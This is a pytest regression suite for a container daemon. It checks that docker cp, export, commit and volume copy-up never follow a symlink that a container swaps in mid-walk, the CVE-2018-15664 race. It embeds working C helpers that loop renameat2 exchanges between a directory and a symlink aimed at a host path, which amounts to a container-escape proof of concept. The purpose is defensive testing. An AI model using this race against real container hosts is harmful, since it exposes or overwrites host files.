"""Host-side walks of a container's files never follow a symlink the container
swaps in mid-walk (issue 13, hole 1: the CVE-2018-15664 class, symlink-exchange
race).

The attack: inside a running container a static helper loops
``renameat2(RENAME_EXCHANGE)`` between a directory ``/x/d`` and a symlink
``/x/s`` whose target is an absolute *host* path, a directory of this test that
holds a file with a unique secret.  Meanwhile the host reads the container:
``docker cp`` out (``GET /containers/{id}/archive``), ``export`` and
``commit --pause=false``, each many times.  A walker that joins path strings
(``scandir(root/x/d)``, ``open(root/x/d/secret00, O_NOFOLLOW)``) resolves ``d``
on the host each time, so whenever ``d`` is the symlink it reads the host's
directory: from one to a few dozen outputs in a hundred held the secret,
depending on how much CPU the racing container got.  The fixed walker
resolves every component relative to a directory fd, never following a link,
so no output ever holds it.  The naive diff (the vfs driver has no native diff)
and export of a vfs container are raced the same way.

Volume copy-up is the writing side of the class: a container that shares a
named volume swaps a directory that copy-up is filling with a symlink to a host
directory; the host must never write there.

Every race is bounded by tries and time, and checks it really raced (outputs
came back, some with the container's own file in ``d``), so a pass is not a
race that never ran.
"""

import io
import json
import tarfile
import time
import uuid

import pytest

from dockyard.testing.daemon import Daemon, http

pytestmark = pytest.mark.root

TOKEN = f"HOST-SECRET-{uuid.uuid4().hex}"
DECOY = "c" * len(TOKEN)  # the container's own file: same name, same size
TRIES, SECONDS = 150, 20
FILES = 40  # files in the swapped directory: each read is one more chance for the race

SWAP_C = r"""
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

/* swap A B: exchange two names forever (RENAME_EXCHANGE = 2) */
int main(int argc, char **argv) {
    if (argc != 3) return 2;
    for (;;) syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], 2);
}
"""

WAITSWAP_C = r"""
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

/* waitswap DIR LINK TARGET: wait for DIR to appear, make LINK -> TARGET, then
   exchange DIR and LINK forever */
int main(int argc, char **argv) {
    if (argc != 4) return 2;
    while (access(argv[1], F_OK) != 0) ;
    if (symlink(argv[3], argv[2]) != 0) return 3;
    for (;;) syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], 2);
}
"""


@pytest.fixture(scope="module")
def helpers(cc):
    return {"swap": cc("swap", SWAP_C), "waitswap": cc("waitswap", WAITSWAP_C)}


@pytest.fixture(scope="module")
def host_secret(tmp_path_factory):
    """The host's directory: files of the names the container's ``d`` has, so a
    walker that goes through the swapped link finds a file at every name."""
    d = tmp_path_factory.mktemp("host-secret")
    for i in range(FILES):
        (d / f"secret{i:02d}").write_text(TOKEN)
    return d


@pytest.fixture(scope="module")
def vfs_daemon(session_root, busybox_tar):
    """A daemon on the vfs driver, whose commit and diff are the naive ones."""
    d = Daemon(session_root / f"vfs-{uuid.uuid4().hex[:6]}", storage_driver="vfs").start()
    try:
        res = d.cli("import", str(busybox_tar), "busybox")
        assert res.returncode == 0, res.stderr.decode()
        yield d
    finally:
        try:
            client = d.sdk()
            for c in client.containers.list(all=True):
                c.remove(force=True)
            client.close()
        finally:
            d.stop()
            d.remove_network_objects()


def _api(d, method, path, body=None):
    data = json.dumps(body).encode() if body is not None else b""
    return http(d.sock, method, path, data, {"Content-Type": "application/json"} if body is not None else None)


def _racer(d, helpers, host_secret):
    """A running container exchanging /x/d (a directory) and /x/s (a symlink to
    the host's secret directory) forever; returns its id."""
    script = (f"mkdir -p /x/d && for i in $(seq -w 0 {FILES - 1}); do printf %s {DECOY} > /x/d/secret$i; done "
              f"&& ln -s {host_secret} /x/s && exec /swap /x/d /x/s")
    status, _, body = _api(d, "POST", "/containers/create", {
        "Image": "busybox", "Cmd": ["sh", "-c", script],
        "HostConfig": {"Binds": [f"{helpers['swap']}:/swap:ro"], "NetworkMode": "none"}})
    assert status == 201, body
    cid = json.loads(body)["Id"]
    status, _, body = _api(d, "POST", f"/containers/{cid}/start")
    assert status == 204, body
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:  # the race runs once /x/s exists
        status, _, _ = _api(d, "GET", f"/containers/{cid}/archive?path=/x/s")
        if status == 200:
            return cid
        time.sleep(0.05)
    raise AssertionError("the racing container did not set up /x")


@pytest.fixture
def racing(daemon, helpers, host_secret):
    cid = _racer(daemon, helpers, host_secret)
    yield daemon, cid
    _api(daemon, "DELETE", f"/containers/{cid}?force=1")


@pytest.fixture
def vfs_racing(vfs_daemon, helpers, host_secret):
    cid = _racer(vfs_daemon, helpers, host_secret)
    yield vfs_daemon, cid
    _api(vfs_daemon, "DELETE", f"/containers/{cid}?force=1")


def _race(d, cid, read):
    """Run ``read()`` (-> bytes or ``None`` on an error answer) many times while
    the container swaps; return ``(leaks, outputs, decoys)``: how many outputs
    held the host's secret, how many came back, how many held the container's
    own file of ``d``."""
    leaks = outputs = decoys = 0
    deadline = time.monotonic() + SECONDS
    for _ in range(TRIES):
        if time.monotonic() > deadline:
            break
        out = read()
        if out is None:
            continue
        outputs += 1
        leaks += TOKEN.encode() in out
        decoys += DECOY.encode() in out
    state = json.loads(_api(d, "GET", f"/containers/{cid}/json")[2])["State"]
    assert state["Running"], "the racing container stopped: the race did not run to the end"
    return leaks, outputs, decoys


def _get(d, path):
    status, _, body = _api(d, "GET", path)
    return body if status == 200 else None


def _commit_layer_bytes(d, cid):
    """``commit --pause=false``; the new image's saved archive (its layers
    uncompressed), the image removed again."""
    status, _, body = _api(d, "POST", f"/commit?container={cid}&pause=0")
    if status != 201:
        return None
    image = json.loads(body)["Id"]
    try:
        return _get(d, f"/images/{image}/get")
    finally:
        _api(d, "DELETE", f"/images/{image}?force=1")


def _check(result, what):
    leaks, outputs, decoys = result
    assert leaks == 0, f"{what}: {leaks} of {outputs} outputs held the host's secret"
    assert outputs >= 20 and decoys > 0, f"{what}: the race did not really run ({outputs} outputs, {decoys} with d)"


def test_cp_out_of_a_running_container_never_follows_a_swapped_link(racing):
    """``docker cp`` out, the CVE-2018-15664 attack itself."""
    d, cid = racing
    _check(_race(d, cid, lambda: _get(d, f"/containers/{cid}/archive?path=/x")), "cp out")


def test_export_of_a_running_container_never_follows_a_swapped_link(racing):
    d, cid = racing
    _check(_race(d, cid, lambda: _get(d, f"/containers/{cid}/export")), "export")


@pytest.mark.slow
def test_commit_without_pause_never_follows_a_swapped_link(racing):
    """The overlay driver's native diff walks the container's upper directory."""
    d, cid = racing
    _check(_race(d, cid, lambda: _commit_layer_bytes(d, cid)), "commit --pause=false")


@pytest.mark.slow
def test_naive_diff_and_vfs_export_never_follow_a_swapped_link(vfs_racing):
    """The naive diff (vfs has no native one) compares the container's tree
    with its image's and tars what changed; export walks the vfs directory."""
    d, cid = vfs_racing
    _check(_race(d, cid, lambda: _commit_layer_bytes(d, cid)), "commit (naive diff)")
    _check(_race(d, cid, lambda: _get(d, f"/containers/{cid}/export")), "export (vfs)")


# ---------------------------------------------------------------- volume copy-up


@pytest.fixture(scope="module")
def seeded_image(daemon):
    """An image with 400 files in /data/sub, the content copy-up copies."""
    status, _, body = _api(daemon, "POST", "/containers/create", {
        "Image": "busybox", "Cmd": ["sh", "-c", "mkdir -p /data/sub && for i in $(seq 400); do "
                                                  "echo $i > /data/sub/f$i; done"],
        "HostConfig": {"NetworkMode": "none"}})
    assert status == 201, body
    cid = json.loads(body)["Id"]
    try:
        assert _api(daemon, "POST", f"/containers/{cid}/start")[0] == 204
        assert _api(daemon, "POST", f"/containers/{cid}/wait")[0] == 200
        status, _, body = _api(daemon, "POST", f"/commit?container={cid}&repo=walk-race-seed&tag=1")
        assert status == 201, body
    finally:
        _api(daemon, "DELETE", f"/containers/{cid}?force=1")
    yield "walk-race-seed:1"
    _api(daemon, "DELETE", "/images/walk-race-seed:1?force=1")


def test_volume_copy_up_never_writes_through_a_swapped_link(daemon, helpers, seeded_image, tmp_path):
    """A container sharing an empty named volume waits for copy-up to make
    ``sub`` in it, then exchanges ``sub`` with a symlink to a host directory
    while copy-up fills ``sub``.  Nothing may land in the host directory (the
    copy may fail: the volume is the attacker's too)."""
    target = tmp_path / "host-target"
    target.mkdir()
    tries = raced = 0
    deadline = time.monotonic() + SECONDS
    while tries < 12 and time.monotonic() < deadline:
        tries += 1
        vol = f"walk-race-{uuid.uuid4().hex[:8]}"
        made = []
        try:
            status, _, body = _api(daemon, "POST", "/containers/create", {
                "Image": "busybox", "Cmd": ["/waitswap", "/v/sub", "/v/lnk", str(target)],
                "HostConfig": {"Binds": [f"{vol}:/v", f"{helpers['waitswap']}:/waitswap:ro"],
                               "NetworkMode": "none"}})
            assert status == 201, body
            made.append(json.loads(body)["Id"])
            assert _api(daemon, "POST", f"/containers/{made[0]}/start")[0] == 204
            status, _, body = _api(daemon, "POST", "/containers/create", {
                "Image": seeded_image, "Cmd": ["true"],
                "HostConfig": {"Binds": [f"{vol}:/data"], "NetworkMode": "none"}})
            assert status == 201, body
            made.append(json.loads(body)["Id"])
            _api(daemon, "POST", f"/containers/{made[1]}/start")  # copy-up runs here; it may fail
            raced += _api(daemon, "GET", f"/containers/{made[0]}/archive?path=/v/lnk")[0] == 200  # it saw sub
        finally:
            for cid in made:
                _api(daemon, "DELETE", f"/containers/{cid}?force=1")
            _api(daemon, "DELETE", f"/volumes/{vol}?force=1")
        leaked = sorted(p.name for p in target.iterdir())
        assert not leaked, f"copy-up wrote {len(leaked)} files into the host directory (try {tries})"
    assert tries >= 5 and raced >= 3, f"the race did not really run ({raced} of {tries} tries saw copy-up start)"
